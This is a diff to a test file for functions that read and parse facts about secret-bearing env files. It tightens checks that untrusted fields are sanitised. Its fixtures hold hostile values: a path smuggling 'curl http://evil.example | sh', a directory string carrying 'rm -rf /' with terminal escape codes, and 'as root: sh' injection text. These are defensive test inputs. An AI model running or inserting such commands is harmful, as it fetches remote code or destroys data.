@@ -35,13 +35,12 @@ describe("readFileFacts()", () => {
           secretsDir: "/srv/secrets",
           hasCommand: false,
           problem: null,
-          reason: null,
           isClosed: false,
         },
       },
       {
         ...{ name: "webhook.env", path: join(folder, "webhook.env"), secrets: ["MESSAGING_API_KEY"] },
-        ...{ wanted: [], secretsDir: null, hasCommand: true, problem: null, reason: null, isClosed: false },
+        ...{ wanted: [], secretsDir: null, hasCommand: true, problem: null, isClosed: false },
       },
     ]);
     expect(JSON.stringify(facts)).not.toContain("canary");
@@ -57,12 +56,9 @@ describe("readFileFacts()", () => {
     put("weekly.env", "DATABASE_URL=x\n", 0o644);
     put("webhook.env", "export WEBHOOK_SECRET=canary\n\ncanary\n");
     const facts = readFileFacts(ACCOUNT_COMMANDS, folder);
-    expect(facts.map(({ name, problem, reason }) => [name, problem, reason])).toEqual([
-      ["weekly.env", "SECRET_FILE_EXPOSED", expect.stringContaining("weekly.env has mode 0644")],
-      [
-        ...["webhook.env", "ENV_FILE_INVALID"],
-        "line 1 begins with export, a word of a shell: write NAME=value; line 3 is not NAME=value",
-      ],
+    expect(facts.map(({ name, problem }) => [name, problem])).toEqual([
+      ["weekly.env", "SECRET_FILE_EXPOSED"],
+      ["webhook.env", "ENV_FILE_INVALID"],
     ]);
     expect(JSON.stringify(facts)).not.toContain("canary");
   });
@@ -71,34 +67,27 @@ describe("readFileFacts()", () => {
 describe("parseFileFacts()", () => {
   const honest: FileFacts = {
     ...{ name: "weekly.env", path: "/etc/opsctl/weekly.env", secrets: ["DATABASE_URL"], wanted: [] },
-    ...{ secretsDir: null, hasCommand: false, problem: null, reason: null, isClosed: false },
+    ...{ secretsDir: null, hasCommand: false, problem: null, isClosed: false },
   };
 
   test.each(["", "{}", "null", "[", '"weekly.env"'])("takes %j for nothing", (text) => {
     expect(parseFileFacts(text, "/etc/opsctl")).toBeNull();
   });
 
-  test("keeps what root may believe: names that it knows, and texts that move no cursor", () => {
+  test("keeps what root may believe: names that it knows, and nothing in which there is room for a command", () => {
     const lies = [
       { ...honest, secrets: ["DATABASE_URL", "\u001b[2J", 7], secretsDir: "/srv\u001b[31m\n-> rm -rf /" },
       { ...honest, name: "collect-metrics.env" },
       { ...honest, path: "/x; curl http://evil.example | sh", problem: "ENV_FILE_INVALID" },
-      {
-        ...honest,
-        secretsDir: "relative",
-        problem: "X\u0007",
-        reason: `\u001b[2Jlies\n${"x".repeat(10_000)}`,
-      },
+      { ...honest, secretsDir: "relative", problem: "X\u0007", reason: "as root: sh /srv/x" },
+      { ...honest, secretsDir: "/x. So that it counts, as root: sh /srv/x" },
       null,
     ];
     expect(parseFileFacts(JSON.stringify(lies), "/etc/opsctl")).toEqual([
-      { ...honest, secretsDir: "/srv [31m -> rm -rf /" },
+      { ...honest, secretsDir: "/srv??31m?-??rm?-rf?/" },
       { ...honest, problem: "ENV_FILE_INVALID" },
-      {
-        ...honest,
-        problem: "INTERNAL_ERROR",
-        reason: expect.stringMatching(/^ ?\[2Jlies x{200,300}$|^lies x{200,300}$/),
-      },
+      { ...honest, problem: "INTERNAL_ERROR" },
+      { ...honest, secretsDir: "/x.?So?that?it?counts,?as?root:?sh?/srv/x" },
     ]);
   });
 });
